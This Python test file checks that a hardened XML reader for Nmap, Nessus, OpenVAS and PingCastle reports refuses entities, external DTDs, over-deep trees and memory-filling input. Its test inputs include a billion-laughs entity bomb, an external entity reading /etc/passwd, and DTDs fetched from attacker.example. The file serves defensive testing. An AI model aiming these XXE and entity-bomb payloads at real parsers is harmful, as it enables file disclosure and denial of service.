"""XML is read as it comes: no entity, no network, bounded memory, and never an empty success."""

from __future__ import annotations

import io
import time
import tracemalloc
from collections import deque
from collections.abc import Iterator
from typing import BinaryIO, cast

import pytest

from hygie.audits.formats import xml
from hygie.audits.formats.nessus import Nessus
from hygie.audits.formats.nmap import Nmap
from hygie.audits.formats.observation import BrokenReport, ReportFormat
from hygie.audits.formats.openvas import OpenVas
from hygie.audits.formats.pingcastle import PingCastle
from hygie.audits.formats.xml import root_name

from .reading import read
from .samples_xml import nessus_item, nmap_port, openvas_result, pingcastle_rule

LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))


def refused(content: str) -> BrokenReport:
    with pytest.raises(BrokenReport) as why:
        read(content, Nmap)
    return why.value


@pytest.mark.parametrize(
    "definition",
    [
        f"<!DOCTYPE nmaprun [{LAUGHS}]>",
        '<!DOCTYPE nmaprun [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE nmaprun [<!ENTITY a11 "x"> <!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
        '<!DOCTYPE nmaprun SYSTEM "http://attacker.example/nmap.dtd">',
        '<!DOCTYPE nmaprun PUBLIC "-//x//y" "http://attacker.example/nmap.dtd">',
    ],
)
@pytest.mark.parametrize("body", ["<nmaprun/>", "<nmaprun>&a11;</nmaprun>", "<nmaprun a='&a11;'/>"])
def test_entities_and_external_definitions_are_refused_at_once(definition, body):
    started = time.process_time()
    assert refused(definition + body).reason in (xml.ENTITIES, xml.BROKEN)
    assert time.process_time() - started < 1


def test_a_bare_definition_is_what_nmap_writes():
    assert read("<!DOCTYPE nmaprun>\n<nmaprun/>").facts.complete is False


@pytest.mark.parametrize(
    "content",
    ["", "   ", "no", "{}", "<nmaprun>", "<nmaprun/>more", "<nmaprun>&a;</nmaprun>", "<nmaprun>\x01</nmaprun>"],
)
def test_what_is_no_whole_xml_is_refused(content):
    assert refused(content).reason == xml.BROKEN


def test_damage_is_told_with_its_line():
    assert refused("<nmaprun>\n\n<host></nmaprun>").line == 3


def test_another_first_element_is_told_by_its_name():
    told = refused("<html><nmaprun/></html>")
    assert (told.reason, told.facts["found"]) == (xml.ANOTHER_ROOT, "html")


def test_a_tree_as_deep_as_no_scanner_writes_is_refused():
    assert refused("<nmaprun>" + "<a>" * 300 + "</a>" * 300 + "</nmaprun>").reason == xml.BROKEN


@pytest.mark.parametrize("junk", ["<a/>", "<a b='' c=''/>", "<a>" + "x" * 10_000 + "</a>"])
def test_a_part_that_would_fill_the_memory_is_refused(junk):
    times = xml.MARKS_AT_MOST + 1 if len(junk) < 100 else xml.KEPT_AT_MOST // 10_000 + 1
    content = f"<nmaprun><host>{junk * times}</host></nmaprun>"
    assert refused(content).reason == xml.TOO_MUCH


def test_as_much_in_many_parts_is_read(monkeypatch):
    monkeypatch.setattr(xml, "MARKS_AT_MOST", 10_000)
    content = f"<nmaprun>{'<host><a/></host>' * 10_000}</nmaprun>"
    assert read(content, Nmap).observations == []


@pytest.mark.parametrize("name", ["<{}/>", "<a {}=''/>", "<a {} = ''/>", "<a xmlns='{}'/>"])
def test_names_without_end_are_refused(name, monkeypatch):
    monkeypatch.setattr(xml, "NAMES_AT_MOST", 20_000)
    monkeypatch.setattr(xml, "LOOK_AT_ONE_IN", 1)
    parts = "".join("<host>" + name.format(f"n{number:08}") + "</host>" for number in range(10_000))
    assert refused(f"<nmaprun>{parts}</nmaprun>").reason == xml.TOO_MUCH


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_each_declared_encoding_is_read(encoding):
    names = '<hostnames><hostname name="hôpital.example" type="user"/></hostnames>'
    host = f"<host>{names}<ports>{nmap_port(22)}</ports></host>"
    content = f'<?xml version="1.0" encoding="{encoding}"?><nmaprun>{host}</nmaprun>'
    assert read(content.encode(encoding)).only.asset == "xn--hpital-ixa.example"


def test_an_encoding_that_is_not_the_declared_one_is_refused():
    content = '<?xml version="1.0" encoding="utf-8"?><nmaprun args="é"/>'.encode("latin-1")
    with pytest.raises(BrokenReport):
        read(content)


@pytest.mark.parametrize(
    ("begins", "name"),
    [
        (b"<a>", "a"),
        (b"\n<?xml version='1.0'?>\n<!-- <b> -->\n<!DOCTYPE a>\n<?x y?><a b='c'>", "a"),
        (f"<!DOCTYPE a [{LAUGHS}]><a>".encode(), "a"),
        (b'<!DOCTYPE a PUBLIC "b>c" "d"><e:a/>', "e:a"),
        (b"<!doctype html><html>", ""),
        (b'{"a": "<b>"}', ""),
        (b"<!-- " * 10_000, ""),
        (b"<!DOCTYPE" + b" '\"[" * 10_000, ""),
    ],
)
def test_the_first_element_is_found_behind_what_stands_before_it(begins, name):
    started = time.process_time()
    assert root_name(begins) == name
    assert time.process_time() - started < 1


class Endless(io.RawIOBase):
    """A report written as it is read."""

    def __init__(self, begin: str, part: str, times: int, end: str) -> None:
        self._pieces: Iterator[bytes] = iter([begin.encode(), *[(part * 100).encode()] * (times // 100), end.encode()])

    def read(self, size: int = -1) -> bytes:
        return next(self._pieces, b"")


@pytest.mark.parametrize(
    ("reader", "begin", "part", "end"),
    [
        (
            Nmap,
            '<nmaprun><host><address addr="10.0.0.1" addrtype="ipv4"/><ports>',
            nmap_port(22, '<script id="banner" output="hello"/>'),
            "</ports></host></nmaprun>",
        ),
        (
            Nessus,
            "<NessusClientData_v2><Report><ReportHost name='10.0.0.1'>",
            nessus_item("<description>It is old.</description>"),
            "</ReportHost></Report></NessusClientData_v2>",
        ),
        (OpenVas, "<report><report><results>", openvas_result(), "</results></report></report>"),
        (
            PingCastle,
            "<HealthcheckData><DomainFQDN>chu.example</DomainFQDN>",
            "<Users><User><Name>invented</Name></User></Users>",
            f"<RiskRules>{pingcastle_rule()}</RiskRules></HealthcheckData>",
        ),
    ],
)
def test_memory_does_not_follow_the_length_of_a_report(reader: type[ReportFormat], begin, part, end):
    stream = cast(BinaryIO, Endless(begin, part, 5_000, end))
    tracemalloc.start()
    try:
        last = deque(enumerate(reader().read(stream), start=1), maxlen=1)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert last[0][0] >= (1 if reader is PingCastle else 5_000)
    assert peak < 2 * 1024**2
